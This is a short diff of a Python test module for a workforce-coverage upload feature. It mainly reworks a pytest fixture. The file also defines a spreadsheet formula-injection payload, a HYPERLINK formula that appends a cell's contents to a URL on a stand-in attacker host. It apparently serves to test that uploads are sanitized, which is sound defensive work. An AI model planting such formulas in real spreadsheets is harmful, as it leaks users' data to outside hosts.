@@ -14,14 +14,13 @@ from openpyxl import load_workbook
 from paritrana.coverage.models import WorkforceFigure, WorkforceUpload
 from paritrana.registry.models import Region
 from tests.core.xlsxkit import write_xlsx
-from tests.coverage.coveragekit import build_demo_like, coverage_users
+from tests.coverage.coveragekit import DemoLike, coverage_users
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
 
 @pytest.fixture
-def users(transactional_db: None) -> dict[str, Any]:
-    build_demo_like()
+def users(demo_like: DemoLike) -> dict[str, Any]:
     return coverage_users()
 
 
